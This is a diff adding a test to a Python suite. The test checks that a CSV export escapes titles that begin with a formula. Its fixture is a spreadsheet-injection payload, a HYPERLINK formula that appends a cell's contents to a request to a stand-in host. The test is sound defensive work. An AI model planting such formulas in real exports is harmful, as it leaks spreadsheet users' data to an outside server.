@@ -191,6 +191,12 @@ def test_the_order_of_rows_does_not_matter_to_the_floor():
 # --- CSV -----------------------------------------------------------------------------------------
 
 
+def test_no_name_in_the_csv_is_a_formula(checkpoint):
+    evil = replace(row_of(checkpoint), title='=HYPERLINK("http://e.example/"&A1)')
+    (line,) = csv.DictReader(io.StringIO(to_csv([evil])))
+    assert line["title"].startswith("'=") and line["overfitting_gap"]
+
+
 def test_csv_holds_every_figure_in_full(checkpoint):
     rows = [row_of(checkpoint), *PUBLISHED]
     read = list(csv.DictReader(io.StringIO(to_csv(rows))))
